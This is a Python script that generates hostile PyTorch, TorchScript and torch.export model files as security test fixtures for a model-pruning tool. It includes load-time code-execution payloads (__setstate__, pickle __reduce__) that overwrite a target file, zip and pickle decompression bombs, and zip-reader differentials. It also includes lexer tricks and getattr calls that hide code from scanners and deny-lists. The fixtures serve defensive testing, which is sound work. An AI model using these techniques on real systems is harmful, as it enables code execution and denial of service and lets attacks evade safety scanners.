"""Writes the hostile and careless inputs of tests/hostile.rs into a folder.

    python hostile.py OUT_DIR VICTIM

Every file is made at test time, from PyTorch's own writers where PyTorch can write the attack
and by rewriting their zips where it cannot. VICTIM is a file that the TorchScript payloads
overwrite (and create if missing) when libtorch runs their code: the test checks it is untouched.
"""

import io
import json
import struct
import sys
import zipfile
import zlib
from pathlib import Path
from typing import Dict, Tuple

import torch

OUT = Path(sys.argv[1])
VICTIM = sys.argv[2]


@torch.jit.script
class Payload(object):
    """Runs in libtorch's loader: TorchScript calls __setstate__ while it unpickles the object."""

    def __init__(self, path: str):
        self.path = path
        self.t = torch.zeros(1)

    def __getstate__(self) -> Tuple[str, int]:
        return (self.path, 0)

    def __setstate__(self, state: Tuple[str, int]) -> None:
        self.path = state[0]
        # Creates the file if missing, maps it shared and overwrites its first bytes.
        self.t = torch.from_file(self.path, True, 4, dtype=torch.uint8)
        self.t.fill_(65)
        print("PAYLOAD RAN")
        # A libtorch warning (deprecated quantized constructor), for the warnings row.
        self.t = torch.quantize_per_tensor(torch.zeros(2), 0.1, 0, 13)


class Evil(torch.nn.Module):
    def __init__(self, path: str):
        super().__init__()
        self.fc = torch.nn.Linear(4, 4)
        self.helper = Payload(path)

    def forward(self, x):
        return self.fc(x)


class ReadsInForward(torch.nn.Module):
    def __init__(self, path: str):
        super().__init__()
        self.fc = torch.nn.Linear(4, 4)
        self.path = path

    def forward(self, x):
        t = torch.from_file(self.path, True, 4)
        return self.fc(x) + t


class ConvReads(torch.nn.Module):
    """A conv net shrink can analyse, whose forward holds a harmless call (torch.clone, its
    result used so that it stays in the code) that the issue 20 inputs replace with a trick."""

    def __init__(self, path: str):
        super().__init__()
        self.conv = torch.nn.Conv2d(3, 8, 3)
        self.head = torch.nn.Conv2d(8, 4, 1)
        self.path = path

    def forward(self, x):
        y = torch.sum(torch.clone(x)) * 0
        return self.head(torch.relu(self.conv(x))) + y


class Mlp(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc1 = torch.nn.Linear(8, 16)
        self.fc2 = torch.nn.Linear(16, 4)

    def forward(self, x):
        return self.fc2(torch.relu(self.fc1(x)))


def entries(path):
    with zipfile.ZipFile(path) as z:
        return [(i.filename, z.read(i.filename)) for i in z.infolist()]


def write_zip(path, items, compress=()):
    """Writes (name, bytes) pairs in order, duplicates included; names in `compress` deflated."""
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name"
        with zipfile.ZipFile(path, "w") as z:
            for name, data in items:
                kind = zipfile.ZIP_DEFLATED if name in compress else zipfile.ZIP_STORED
                z.writestr(zipfile.ZipInfo(name), data, compress_type=kind)


def replace_code(path, out, old, new):
    items = []
    for name, data in entries(path):
        if name.endswith(".py"):
            data = data.replace(old.encode(), new.encode())
        items.append((name, data))
    write_zip(out, items)


# --- Issue 20: running a model's code (`tch-prune shrink`).
class ShrinkCnn(torch.nn.Module):
    """A small CNN that `shrink` can narrow: two convs, the first's channels free to go."""

    def __init__(self):
        super().__init__()
        self.c1 = torch.nn.Conv2d(3, 8, 3, padding=1)
        self.c2 = torch.nn.Conv2d(8, 4, 3, padding=1)

    def body(self, x):
        return self.c2(torch.relu(self.c1(x)))

    def forward(self, x):
        return self.body(x)


class Loops(ShrinkCnn):
    def forward(self, x):
        n = 0
        while n >= 0:
            x = x * 1.0
            n = n + 1
        return self.body(x)


class Allocates(ShrinkCnn):
    def forward(self, x):
        # 3.2 GB in one allocation.
        big = torch.ones(800_000_000)
        return self.body(x) + big[0]


class SharedConv(torch.nn.Module):
    """One conv under two names (`a` and `b`), applied twice."""

    def __init__(self):
        super().__init__()
        self.c1 = torch.nn.Conv2d(3, 8, 3, padding=1)
        shared = torch.nn.Conv2d(8, 8, 3, padding=1)
        self.a = shared
        self.b = shared
        self.c3 = torch.nn.Conv2d(8, 4, 3, padding=1)

    def forward(self, x):
        x = torch.relu(self.c1(x))
        x = torch.relu(self.a(x))
        x = torch.relu(self.b(x))
        return self.c3(x)


class MutatesWeights(ShrinkCnn):
    def forward(self, x):
        with torch.no_grad():
            self.c1.weight.mul_(2.0)
        return self.body(x)


class RewritesBufferLater(torch.nn.Module):
    """Leaves its buffer alone on the runs `shrink`'s analysis checks (the first two) and
    rewrites it on every later one (the timed runs): the rewritten buffer would be saved."""

    calls: int

    def __init__(self):
        super().__init__()
        self.c1 = torch.nn.Conv2d(3, 8, 3, padding=1)
        self.bn = torch.nn.BatchNorm2d(8)
        self.c2 = torch.nn.Conv2d(8, 4, 3, padding=1)
        self.calls = 0

    def forward(self, x):
        self.calls = self.calls + 1
        if self.calls > 2:
            self.bn.running_var.mul_(4.0)
        return self.c2(torch.relu(self.bn(self.c1(x))))


class Noisy(ShrinkCnn):
    """Another answer on every run: --verify cannot pass."""

    def forward(self, x):
        return self.body(x) + torch.rand_like(self.body(x))


class TwoInputs(ShrinkCnn):
    def forward(self, x, y):
        return self.body(x) + self.body(y)


def shrink_inputs():
    torch.manual_seed(0)
    for name, cls in [("shrink_cnn", ShrinkCnn), ("shrink_loops", Loops), ("shrink_allocates", Allocates),
                      ("shrink_shared_conv", SharedConv), ("shrink_mutates", MutatesWeights),
                      ("shrink_noisy", Noisy), ("shrink_two_inputs", TwoInputs),
                      ("shrink_rewrites_buffer_later", RewritesBufferLater)]:
        m = cls()
        torch.jit.save(torch.jit.script(m), OUT / f"{name}.pt")
    import safetensors.torch

    safetensors.torch.save_file(ShrinkCnn().state_dict(), str(OUT / "shrink_cnn.safetensors"))


def unicode_path(raw, shown):
    """A ZipInfo whose raw name is `raw`, renamed `shown` by an Info-ZIP Unicode Path extra
    field (0x7075: version 1, the CRC-32 of the raw name, the new name): readers that honour the
    field (the zip crate) see `shown`, miniz (PyTorch) looks the entry up by `raw`."""
    info = zipfile.ZipInfo(raw)
    new = shown.encode()
    info.extra = struct.pack("<HHBI", 0x7075, 5 + len(new), 1, zlib.crc32(raw.encode())) + new
    return info


def write_infos(path, items):
    """Writes (ZipInfo or name, bytes) pairs in order, stored."""
    with zipfile.ZipFile(path, "w") as z:
        for info, data in items:
            if isinstance(info, str):
                info = zipfile.ZipInfo(info)
            z.writestr(info, data, compress_type=zipfile.ZIP_STORED)


def pickle_str(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def views_pickle(n, numel, tied):
    """data.pkl of a dict of `n` tensors over one float storage '0' of `numel` elements, as
    torch.save writes it (globals and the storage memoized): one-element views at offsets
    0..n (`tied` False), or the same [4, 4] tensor object under `n` names (`tied` True)."""
    out = [b"\x80\x02}q\x00("]
    rebuild = b"ctorch._utils\n_rebuild_tensor_v2\nq\x01"
    storage = b"(X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuJ" + struct.pack("<i", numel) + b"tQq\x02"
    hooks = b"ccollections\nOrderedDict\nq\x03)R"
    if tied:
        out.append(pickle_str("t0") + rebuild + b"(" + storage + b"K\x00K\x04K\x04\x86K\x04K\x01\x86\x89" + hooks + b"tRr\x04\x00\x00\x00")
        out.extend(pickle_str(f"t{i}") + b"j\x04\x00\x00\x00" for i in range(1, n))
    else:
        out.append(pickle_str("v0") + rebuild + b"(" + storage + b"K\x00K\x01\x85K\x01\x85\x89" + hooks + b"tR")
        out.extend(pickle_str(f"v{i}") + b"h\x01(h\x02J" + struct.pack("<i", i) + b"K\x01\x85K\x01\x85\x89h\x03)RtR" for i in range(1, n))
    out.append(b"u.")
    return b"".join(out)


def issue20(sd):
    # TorchScript: the real code/__torch__.py (its __setstate__ overwrites the victim) renamed
    # .txt by a Unicode Path field, and a decoy whose raw name is __torch__.pyc renamed to
    # code/__torch__.py, with the payload's names taken out. libtorch compiles the real one.
    items = entries(OUT / "setstate.pt")
    code = [n for n, _ in items if n.endswith("/code/__torch__.py")][0]
    forged = []
    for name, data in items:
        if name == code:
            forged.append((unicode_path(name, name[:-3] + ".txt"), data))
            clean = data.replace(b"__setstate__", b"__sleepy____").replace(b"from_file", b"zeros_lik")
            forged.append((unicode_path(name + "c", name), clean))
        else:
            forged.append((name, data))
    write_infos(OUT / "unicode_code.pt", forged)

    # torch.save: data/0 (ones) renamed away, a decoy (zeros) renamed to data/0. torch.load
    # reads the ones.
    one = io.BytesIO()
    torch.save({"w": torch.ones(4, 4)}, one)
    forged = []
    for name, data in entries(one):
        if name.endswith("/data/0"):
            forged.append((unicode_path(name, name[:-1] + "9"), data))
            forged.append((unicode_path(name + "x", name), bytes(len(data))))
        else:
            forged.append((name, data))
    write_infos(OUT / "unicode_data.pt", forged)

    # One storage key declared twice: as float and as int32 (torch.load reads both as float,
    # torch.jit.load the second as int32); as float [4] and as half [8] (torch.load refuses the
    # half view, out of the float storage's bounds).
    def same_key(first, second, out):
        b = io.BytesIO()
        torch.save({"a": first, "b": second}, b)
        items = []
        for name, data in entries(b):
            if name.endswith("data.pkl"):
                assert data.count(b"X\x01\x00\x00\x001") == 1, data
                data = data.replace(b"X\x01\x00\x00\x001", b"X\x01\x00\x00\x000")
            if not name.endswith("/data/1"):
                items.append((name, data))
        write_zip(out, items)

    same_key(torch.arange(4.0), torch.arange(4, dtype=torch.int32), OUT / "two_dtypes.pt")
    same_key(torch.arange(4.0), torch.arange(8, dtype=torch.float16), OUT / "half_view.pt")

    # Many views: 1M one-element views of one storage, and one [4, 4] tensor under 1M names,
    # their data.pkl deflated (a few MB of file); 50,000 views (within the copy budget: read,
    # in time linear in them).
    prefix = "archive"

    def views(path, n, numel, tied):
        storage = torch.randn(numel).numpy().tobytes()
        items = [(f"{prefix}/data.pkl", views_pickle(n, numel, tied)), (f"{prefix}/byteorder", b"little"),
                 (f"{prefix}/data/0", storage), (f"{prefix}/version", b"3\n")]
        write_zip(path, items, compress={f"{prefix}/data.pkl"})

    views(OUT / "views_1m.pt", 1_000_000, 1_000_000, False)
    views(OUT / "tied_1m.pt", 1_000_000, 16, True)
    views(OUT / "views_50k.pt", 50_000, 50_000, False)
    # 20,000 tensors of their own, read in memory.
    torch.save({f"w{i}.weight": torch.randn(2, 2) for i in range(20_000)}, OUT / "many_tensors.pt")

    # The differential corpus: what torch.load(weights_only=True) reads of each file, as
    # safetensors (or `.refused` with its error), for tests/hostile.rs to compare with what
    # tch-prune reads. A few valid files beside the crafted ones: views, a transposed weight,
    # tied weights, several dtypes.
    base = torch.randn(64)
    torch.save({"a": base[:16].view(4, 4), "b": base[16:48], "t": torch.randn(3, 5).t(),
                "h": torch.randn(6).half(), "i": torch.arange(5), "tied": base, "tied2": base},
               OUT / "valid_views.pt")
    expected = OUT / "expected"
    expected.mkdir(exist_ok=True)
    import safetensors.torch

    for name in ["plain", "valid_views", "views_50k", "unicode_data", "two_dtypes", "half_view",
                 "dup_storage", "dup_case", "dup_pkl"]:
        try:
            sd = torch.load(OUT / f"{name}.pt", weights_only=True)
            sd = {k: v.contiguous().clone() for k, v in sd.items()}
            safetensors.torch.save_file(sd, str(expected / f"{name}.safetensors"))
        except Exception as e:  # noqa: BLE001 - any refusal is what is compared
            (expected / f"{name}.refused").write_text(str(e).splitlines()[0] if str(e) else type(e).__name__)


# --- Issue 23: torch.export archives (.pt2).
class WritesVictim:
    """Pickled, it makes the unpickler call open(VICTIM, "w"): what `use_pickle` weights could
    hold, since torch.export.load unpickles them with weights_only=False."""

    def __reduce__(self):
        return (open, (VICTIM, "w"))


def pt2_inputs():
    mlp = Mlp().eval()
    torch.export.save(torch.export.export(mlp, (torch.randn(2, 8),)), OUT / "pt2_mlp.pt2")
    items = entries(OUT / "pt2_mlp.pt2")
    root = items[0][0].split("/")[0]
    config_name = f"{root}/data/weights/model_weights_config.json"
    config = json.loads(dict(items)[config_name])
    first = next(iter(config["config"]))
    storage = f"{root}/data/weights/{config['config'][first]['path_name']}"

    def with_config(out, edit, data=None):
        """The archive with the first weight's config entry edited (and its storage's bytes
        replaced by `data`, if given)."""
        c = json.loads(json.dumps(config))
        edit(c["config"][first])
        text = json.dumps(c).encode()
        write_zip(OUT / out, [(n, text if n == config_name else data if n == storage and data is not None else d)
                              for n, d in items])

    def meta(sizes, strides, offset=0):
        def edit(entry):
            m = entry["tensor_meta"]
            m["sizes"] = [{"as_int": v} for v in sizes]
            m["strides"] = [{"as_int": v} for v in strides]
            m["storage_offset"] = {"as_int": offset}
        return edit

    # A weight the archive says is pickled, its entry a pickle that writes the victim.
    with_config("pt2_pickled.pt2", lambda e: e.update(use_pickle=True),
                data=__import__("pickle").dumps(WritesVictim(), protocol=2))
    # A view past the end of its storage.
    w = config["config"][first]["tensor_meta"]
    sizes = [v["as_int"] for v in w["sizes"]]
    strides = [v["as_int"] for v in w["strides"]]
    with_config("pt2_view_past_end.pt2", meta(sizes, strides, 1000))
    # A path_name that leaves the weights folder.
    with_config("pt2_path_escape.pt2", lambda e: e.update(path_name="../../archive_format"))
    # A name given twice in the config: json.loads keeps the last, a careless reader the first.
    inner = json.dumps({first: config["config"][first]})[1:-1]
    twice = json.dumps(config).replace('"config": {', '"config": {' + inner + ", ", 1)
    write_zip(OUT / "pt2_name_twice.pt2", [(n, twice.encode() if n == config_name else d) for n, d in items])
    # An empty storage stands for zeros of the tensor's size: 16 GiB asked for by a few bytes.
    with_config("pt2_zeros_bomb.pt2", meta([65536, 65536], [65536, 1]), data=b"")
    # A stride-0 expansion of one element to [16384, 16384], which a reader that copies views
    # would materialize (1 GiB).
    with_config("pt2_stride0.pt2", meta([16384, 16384], [0, 0]))
    # Two entries of one storage: PyTorch (miniz) reads one, the zip crate the other.
    dup = []
    for n, d in items:
        dup.append((n, d))
        if n == storage:
            dup.append((n, bytes(len(d))))
    write_zip(OUT / "pt2_dup_storage.pt2", dup)
    # A storage deflated from 1 GiB of zeros, the config saying so.
    c = json.loads(json.dumps(config))
    meta([1 << 28], [1])(c["config"][first])
    with zipfile.ZipFile(OUT / "pt2_deflate_bomb.pt2", "w") as z:
        for n, d in items:
            if n == storage:
                info = zipfile.ZipInfo(n)
                info.compress_type = zipfile.ZIP_DEFLATED
                with z.open(info, "w") as entry:
                    for _ in range(64):
                        entry.write(bytes(1 << 24))
                continue
            z.writestr(zipfile.ZipInfo(n), json.dumps(c).encode() if n == config_name else d)
    # Not pt2: another archive_format.
    write_zip(OUT / "pt2_format.pt2", [(n, b"pt3" if n.endswith("/archive_format") else d) for n, d in items])
    # A program with a node of its own that maps the victim shared (aten::from_file creates or
    # overwrites it): `shrink --verify` runs programs, and must refuse this one before any node
    # runs. The node feeds nothing, so the channel analysis still shrinks fc1.
    model_json = f"{root}/models/model.json"
    program = json.loads(dict(items)[model_json])
    graph = program["graph_module"]["graph"]
    graph["nodes"].insert(0, {
        "target": "torch.ops.aten.from_file.default",
        "inputs": [{"name": "filename", "arg": {"as_string": VICTIM}, "kind": 1},
                   {"name": "shared", "arg": {"as_bool": True}, "kind": 1},
                   {"name": "size", "arg": {"as_int": 4096}, "kind": 1}],
        "outputs": [{"as_tensor": {"name": "mapped"}}],
        "metadata": {}, "is_hop_single_tensor_return": None, "name": "mapped"})
    meta_of = json.loads(json.dumps(next(iter(graph["tensor_values"].values()))))
    meta_of["sizes"] = [{"as_int": 4096}]
    meta_of["strides"] = [{"as_int": 1}]
    graph["tensor_values"]["mapped"] = meta_of
    write_zip(OUT / "pt2_from_file.pt2", [(n, json.dumps(program).encode() if n == model_json else d) for n, d in items])
    # Two programs.
    write_zip(OUT / "pt2_two_models.pt2", items + [(f"{root}/models/other.json", dict(items)[model_json])])
    # An AOTInductor package, laid out as torch._inductor.aoti_compile_and_package writes one
    # (PyTorch 2.13, CPU): generated C++, its metadata, the compiled library holding the weights.
    so = f"{root}/data/aotinductor/model/cabc.wrapper.so"
    aoti = [(f"{root}/data/aotinductor/model/cabc.wrapper.cpp", b"// generated"),
            (f"{root}/data/aotinductor/model/ckernel.kernel.cpp", b"// generated"),
            (f"{root}/data/aotinductor/model/cabc.wrapper_metadata.json", b'{"AOTI_DEVICE_KEY": "cpu"}'),
            (so, b"\x7fELF" + bytes(64)),
            (f"{root}/archive_format", b"pt2"), (f"{root}/archive_version", b"0"),
            (f"{root}/.data/version", b"6\n"), (f"{root}/byteorder", b"little")]
    write_zip(OUT / "pt2_aoti.pt2", aoti)


# --- Where libtorch's lexer and loader read a file otherwise than a checker might.
class Lin4(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.lin = torch.nn.Linear(4, 4)

    def forward(self, x):
        return self.lin(x)


class Trigger(torch.nn.Module):
    """A module with an exported __setstate__ of its own (harmless as written)."""

    def __init__(self):
        super().__init__()
        self.k = 1

    def forward(self, x):
        return x

    @torch.jit.export
    def __getstate__(self) -> Dict[str, int]:
        return {"k": self.k}

    @torch.jit.export
    def __setstate__(self, state: Dict[str, int]) -> None:
        self.k = state["k"]
        self.training = False


class WithTrigger(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.lin = torch.nn.Linear(4, 4)
        self.trig = Trigger()

    def forward(self, x):
        return self.trig(self.lin(x))


def edit_code(module, out, edit):
    """Saves `module` scripted to `out`, its code/__torch__.py passed through `edit`."""
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(module), buf)
    items = [(n, edit(d.decode()).encode() if n.endswith("code/__torch__.py") else d) for n, d in entries(buf)]
    write_zip(out, items)


# A `# type:` comment is code to libtorch: a triple-quoted string opened there, closed by a
# quote inside a later string literal, made a checker that skips the comment see the code in
# between as one string.
OPEN_IN_TYPE_COMMENT = "  def _pad(self, x):\n    # type: ('''torch.classes.quantized.LinearPackedParamsBase\n    ''') -> int\n    return 1\n"
CLOSE = "  def _close(self) -> str:\n    return \"'''\"  # \"\n"


def lexer_tricks():
    def hidden(method, line, payload):
        """Puts `payload` in place of `line` in `method`, the method behind a string opened in a
        type comment before it and closed after the class."""
        def edit(src):
            i = src.index(f"  def {method}")
            return src[:i] + OPEN_IN_TYPE_COMMENT + src[i:].replace(line, payload % VICTIM, 1) + CLOSE
        return edit
    edit_code(WithTrigger(), OUT / "type_comment.pt", hidden(
        "__setstate__", "    return None\n",
        "    self.k = torch.numel(torch.from_file(\"%s\", True, 4, dtype=0).fill_(65))\n    return None\n"))
    edit_code(Lin4(), OUT / "type_comment_forward.pt", hidden(
        "forward", "    return (lin).forward(x, )\n",
        "    n = torch.numel(torch.from_file(\"%s\", True, 4, dtype=0).fill_(67))\n"
        "    return torch.add((lin).forward(x, ), torch.mul(n, 0))\n"))

    # A backslash-newline joins `__torch__.torch.` and `classes.profiling...` into one path.
    def continued(src):
        src = src.replace("    lin = self.lin\n",
                          "    p = __torch__.torch.\\\n    classes.profiling._ScriptProfile()\n    lin = self.lin\n")
        return src + "  def profiling(self) -> int:\n    return 0\n  def _ScriptProfile(self) -> int:\n    return 0\n"
    edit_code(Lin4(), OUT / "continuation.pt", continued)

    # An object of a custom class (mkldnn's, whose C++ __setstate__ takes the file's state)
    # that only data.pkl names: its declaration and class stub removed from the code.
    class HoldsContext(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.lin = torch.nn.Linear(4, 4)
            self.ctx = torch.ops.mkldnn_prepacked.conv2d_prepack(
                torch.randn(4, 3, 3, 3), None, [1, 1], [0, 0], [1, 1], 1, [1, 3, 8, 8], "none")

        def forward(self, x):
            return self.lin(x)
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(HoldsContext()), buf)
    items = [(n, d.replace(b"  ctx : __torch__.torch.classes.mkldnn.ConvOpContext\n", b"")
              if n.endswith("code/__torch__.py") else d)
             for n, d in entries(buf) if "classes/mkldnn" not in n]
    write_zip(OUT / "custom_class_in_pickle.pt", items)

    # Quantized packed parameters as a plain attribute (no __setstate__ in the file's code).
    class Packed(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.lin = torch.nn.Linear(4, 4)
            self.packed = torch.ops.quantized.linear_prepack(
                torch.quantize_per_tensor(torch.randn(4, 4), 0.1, 0, torch.qint8), None)

        def forward(self, x):
            return self.lin(x)
    torch.jit.save(torch.jit.script(Packed()), OUT / "packed_attribute.pt")

    # A zip that is also a flatbuffer module: libtorch's loader looks for PTMF at byte 4
    # before it looks for a zip (the flatbuffer itself is left out here: the mark decides).
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(Lin4()), buf)
    with open(OUT / "flatbuffer_zip.pt", "wb") as f:
        f.write(b"PK\x03\x04PTMF" + bytes(56))
    with zipfile.ZipFile(OUT / "flatbuffer_zip.pt", "a") as z:
        for name, data in entries(buf):
            z.writestr(zipfile.ZipInfo(name), data)


def wide_prefix(path, k):
    """A TorchScript module tree made a DAG: the root holds A under a 60 000-byte name, A holds k
    attributes that all name one leaf B. Walked under each name (as state_dict() does), it
    would build k copies of the long name: about 60 KiB each from 10 bytes of data.pkl."""
    b = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), b)
    zin = zipfile.ZipFile(io.BytesIO(b.getvalue()))
    pre = zin.infolist()[0].filename.split("/")[0]
    p = bytearray(b"\x80\x02")
    p += b"c__torch__\nB\n)\x81}b" + b"r" + struct.pack("<I", 0)
    p += b"c__torch__\nA\n)\x81}("
    for i in range(k):
        p += pickle_str(f"k{i}") + b"j" + struct.pack("<I", 0)
    p += b"ub" + b"r" + struct.pack("<I", 1)
    p += b"c__torch__\nR\n)\x81}(" + pickle_str("L" * 60000) + b"j" + struct.pack("<I", 1) + b"ub."
    code = "".join(f"class {c}(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n" for c in "RAB")
    items = [(n, bytes(p) if n == f"{pre}/data.pkl" else zin.read(n))
             for n in zin.namelist() if "/code/" not in n and "/data/" not in n]
    write_zip(path, items + [(f"{pre}/code/__torch__.py", code.encode())])


def main():
    OUT.mkdir(parents=True, exist_ok=True)
    torch.manual_seed(0)

    # --- TorchScript: code that runs, or would.
    torch.jit.save(torch.jit.script(Evil(VICTIM)), OUT / "setstate.pt")
    torch.jit.save(torch.jit.script(ReadsInForward(VICTIM)), OUT / "forward_from_file.pt")
    mlp = torch.jit.script(Mlp())
    torch.jit.save(mlp, OUT / "mlp.ts.pt")
    wide_prefix(OUT / "wide_prefix.pt", 60000)
    # An operator of a namespace libtorch does not define (a custom op library's).
    replace_code(OUT / "mlp.ts.pt", OUT / "custom_op.pt", "torch.relu(", "ops.evilext.run(")
    # An operator libtorch does not know: its message starts with a newline.
    replace_code(OUT / "mlp.ts.pt", OUT / "unknown_op.pt", "torch.relu(", "torch.no_such_op(")
    # Two definitions of the same class file: PyTorch compiles the first (from_file), a
    # scanner that reads the last sees harmless code.
    items = entries(OUT / "mlp.ts.pt")
    code = [(n, d) for n, d in items if n.endswith("code/__torch__.py")][0]
    evil = (code[0], code[1].replace(b"torch.relu(", b"torch.from_file(\"%s\", True, 4) + torch.relu(" % VICTIM.encode()))
    write_zip(OUT / "dup_code.pt", [evil] + items)
    # Issue 20: the code allow-list. The forward of a scripted conv net reaches the victim
    # through names a deny-list does not see: in string literals (getattr with a namespace) or
    # behind parentheses. `shrink` runs forward; `report` only loads.
    torch.jit.save(torch.jit.script(ConvReads(VICTIM)), OUT / "conv_reads.pt")
    tricks = {
        "getattr_from_file": 'getattr(torch, "from_file")(self.path, True, 4).fill_(65.)',
        "getattr_save": '(torch.clone(x), getattr(torch, "save")(x, self.path))[0]',
        "getattr_ops_from_file": 'getattr(ops.aten, "from_file")(self.path, True, 4).fill_(65.)',
        "paren_ops": "(ops)._c10d_functional.wait_tensor(x)",
    }
    for name, trick in tricks.items():
        replace_code(OUT / "conv_reads.pt", OUT / f"{name}.pt", "torch.clone(x)", trick)

    # Quantized (dynamic): packed parameters, whose loading warns in libtorch.
    q = torch.ao.quantization.quantize_dynamic(Mlp(), {torch.nn.Linear}, dtype=torch.qint8)
    torch.jit.save(torch.jit.script(q), OUT / "quantized.pt")
    # Issue 20: a packed quantized object in constants.pkl, which libtorch unpickles (running
    # the class's C++ __setstate__ on the file's bytes) while the module's data.pkl is plain.
    packed = (b"\x80\x02c__torch__.torch.classes.quantized\nLinearPackedParamsBase\n"
              b")\x81\x85q\x00.")
    write_zip(OUT / "quantized_constants.pt",
              [(n, packed if n.endswith("/constants.pkl") else d) for n, d in entries(OUT / "mlp.ts.pt")])

    # The same object in a source-range table, which libtorch unpickles only when it reports an
    # error in the code: every pickle of the archive is checked, read now or later.
    write_zip(OUT / "quantized_debug_pkl.pt",
              [(n, packed if n.endswith(".debug_pkl") else d) for n, d in entries(OUT / "mlp.ts.pt")])

    lexer_tricks()

    # --- State dicts.
    sd = {"fc1.weight": torch.randn(16, 8), "fc1.bias": torch.randn(16),
          "fc2.weight": torch.randn(4, 16), "fc2.bias": torch.randn(4)}
    torch.save(sd, OUT / "plain.pt")
    torch.save({"a.bias": torch.randn(8), "b.bias": torch.randn(4)}, OUT / "only_1d.pt")
    # A name safetensors reserves: the model is written, its --state-out cannot be.
    torch.save({"fc.weight": torch.randn(4, 4), "__metadata__": torch.randn(2)}, OUT / "metadata_key.pt")
    import safetensors.torch

    safetensors.torch.save_file({"big.weight": torch.randn(4096, 4096)}, str(OUT / "big.safetensors"))

    # Two entries of one storage: PyTorch reads the first (ones), the zip crate the last.
    one = io.BytesIO()
    torch.save({"w": torch.ones(4, 4)}, one)
    two = io.BytesIO()
    torch.save({"w": torch.zeros(4, 4)}, two)
    a, b = entries(one), entries(two)
    storage = [d for n, d in b if n.endswith("/data/0")][0]
    dup = []
    for name, data in a:
        dup.append((name, data))
        if name.endswith("/data/0"):
            dup.append((name, storage))
    write_zip(OUT / "dup_storage.pt", dup)
    pkl = [(n, d) for n, d in a if n.endswith("data.pkl")][0]
    write_zip(OUT / "dup_pkl.pt", [pkl] + a)
    case = []
    for name, data in a:
        case.append((name, data))
        if name.endswith("/data/0"):
            case.append((name.replace("/data/0", "/DATA/0"), storage))
    write_zip(OUT / "dup_case.pt", case)

    # A pickle bomb: 64 MiB of EMPTY_TUPLE, deflated into some 64 KB.
    prefix = a[0][0].split("/")[0]
    bomb = b"\x80\x02" + b")" * (64 << 20) + b"}."
    write_zip(OUT / "pickle_bomb.pt", [(f"{prefix}/data.pkl", bomb), (f"{prefix}/byteorder", b"little")],
              compress={f"{prefix}/data.pkl"})

    # A deflate bomb: a 1 GiB storage of zeros, deflated into about 1 MB. The pickle is
    # torch.save's for a tensor of 3 elements, its 3s (size and storage length) made 2^28.
    zeros = io.BytesIO()
    torch.save({"w": torch.zeros(3)}, zeros)
    with zipfile.ZipFile(OUT / "deflate_bomb.pt", "w") as z:
        for name, data in entries(zeros):
            if name.endswith("data.pkl"):
                assert data.count(b"K\x03") == 2, data
                data = data.replace(b"K\x03", b"J\x00\x00\x00\x10")
            if name.endswith("/data/0"):
                info = zipfile.ZipInfo(name)
                info.compress_type = zipfile.ZIP_DEFLATED
                with z.open(info, "w") as entry:
                    chunk = bytes(1 << 24)
                    for _ in range(64):
                        entry.write(chunk)
                continue
            z.writestr(zipfile.ZipInfo(name), data)

    # Many storages, each deflated from 12 MiB of zeros: each within the bound one entry may
    # expand to (16 MiB for a small file), 288 MiB all together from a file of under 1 MB.
    many = io.BytesIO()
    torch.save({f"w{i}": torch.zeros(3 << 20) for i in range(24)}, many)
    with zipfile.ZipFile(OUT / "deflate_many.pt", "w") as z:
        for name, data in entries(many):
            info = zipfile.ZipInfo(name)
            if "/data/" in name:
                info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)

    # A stride-0 expansion: [16384, 16384] over one element (PyTorch keeps it a view).
    torch.save({"w": torch.zeros(1).expand(16384, 16384)}, OUT / "stride0.pt")

    # One 4 MiB storage under 256 names, each a view at another offset: 1 GiB if copied.
    base = torch.randn(1 << 20)
    n = (1 << 20) - 256
    torch.save({f"v{i}": base[i:i + n] for i in range(256)}, OUT / "shared_views.pt")

    # --- Issue 20: archive differentials and scale.
    issue20(sd)

    # safetensors whose header length runs past the end of the file.
    header = b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    (OUT / "header_past_end.safetensors").write_bytes(struct.pack("<Q", 1 << 20) + header + bytes(4))

    # A plan whose pattern is 100 MB long.
    (OUT / "long_pattern.json").write_text(
        '[{"params": "%s", "method": "l1-unstructured", "amount": 0.5}]' % ("x" * (100 << 20)))

    shrink_inputs()
    pt2_inputs()


main()
